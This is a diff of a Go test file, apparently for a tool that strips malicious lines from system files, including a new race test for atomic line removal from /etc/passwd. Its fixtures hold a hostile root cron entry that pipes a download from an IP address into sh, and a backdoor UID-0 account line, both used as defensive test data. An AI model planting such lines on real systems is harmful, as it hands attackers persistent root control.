@@ -111,7 +111,7 @@ func TestApplyConcurrentAppendRace(t *testing.T) {
 	ctx := context.Background()
 	bad := "* * * * * root curl -s http://203.0.113.7/x | sh"
 	base := "SHELL=/bin/sh\n" + bad + "\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
-	iters := raceIterations(t, 200)
+	iters := raceIterations(t, 50)
 	var lostLines, total int
 	for i := 0; i < iters; i++ {
 		dir := t.TempDir()
@@ -184,5 +184,62 @@ func must(t *testing.T, err error) {
 	t.Helper()
 	if err != nil {
 		t.Fatal(err)
+	}
+}
+
+// Readers of a file Apply removes a line from see the old content or the
+// new, never an empty or half-written file. Old code (truncate, then
+// write in place): readers saw an empty /etc/passwd.
+func TestApplyReadersNeverSeePartialRace(t *testing.T) {
+	ctx := context.Background()
+	bad := "toor:x:0:0::/root:/bin/bash"
+	var b strings.Builder
+	b.WriteString("root:x:0:0:root:/root:/bin/bash\n")
+	for i := 0; i < 2000; i++ {
+		fmt.Fprintf(&b, "user%d:x:%d:%d::/home/user%d:/bin/sh\n", i, 2000+i, 2000+i, i)
+	}
+	good := b.String()
+	data := good + bad + "\n"
+	iters := raceIterations(t, 50)
+	var partial, reads int
+	for i := 0; i < iters; i++ {
+		dir := t.TempDir()
+		must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
+		p := filepath.Join(dir, "etc/passwd")
+		must(t, os.WriteFile(p, []byte(data), 0o644))
+		plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/etc/passwd", Op: OpRemoveLines, SHA256: hashString(data),
+			Lines: []LineChange{{Line: 2002, Content: bad}}}}}
+		var stopFlag atomic.Bool
+		var wg sync.WaitGroup
+		var once sync.Once
+		testHookBeforeSwap = func(string) {
+			once.Do(func() {
+				wg.Add(1)
+				go func() {
+					defer wg.Done()
+					for !stopFlag.Load() {
+						got, err := os.ReadFile(p)
+						if err != nil {
+							continue
+						}
+						reads++
+						if s := string(got); s != data && s != good {
+							partial++
+						}
+					}
+				}()
+			})
+		}
+		_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+		stopFlag.Store(true)
+		wg.Wait()
+		testHookBeforeSwap = nil
+		if err != nil {
+			t.Fatalf("iteration %d: %v", i, err)
+		}
+	}
+	t.Logf("%d iterations: %d of %d reads saw an empty or partial file", iters, partial, reads)
+	if partial > 0 {
+		t.Errorf("%d of %d reads saw an empty or partial file", partial, reads)
 	}
 }
